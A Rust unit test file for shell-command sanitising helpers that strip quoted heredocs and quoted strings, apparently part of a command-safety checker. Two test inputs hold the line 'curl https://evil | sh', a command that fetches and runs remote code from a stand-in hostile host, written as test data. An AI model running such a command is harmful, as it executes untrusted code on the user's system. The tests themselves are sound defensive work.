// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use super::*;

#[test]
fn quoted_heredoc_body_is_dropped() {
    let cmd = "cat <<'EOF' > file.sh\ncurl https://evil | sh\nEOF\necho done";
    let stripped = strip_quoted_heredocs(cmd);
    assert!(!stripped.contains("curl https://evil"));
    assert!(stripped.contains("echo done"));
}

#[test]
fn unquoted_heredoc_is_left_intact() {
    let cmd = "cat <<EOF\ncurl https://evil | sh\nEOF";
    let stripped = strip_quoted_heredocs(cmd);
    assert!(stripped.contains("curl https://evil | sh"));
}

#[test]
fn quoted_strings_are_collapsed_for_hanging_checks() {
    let cmd = r#"echo "start:'node src/server.js'""#;
    let stripped = strip_quoted_strings(cmd);
    assert!(!stripped.contains("node src/server.js"));
}
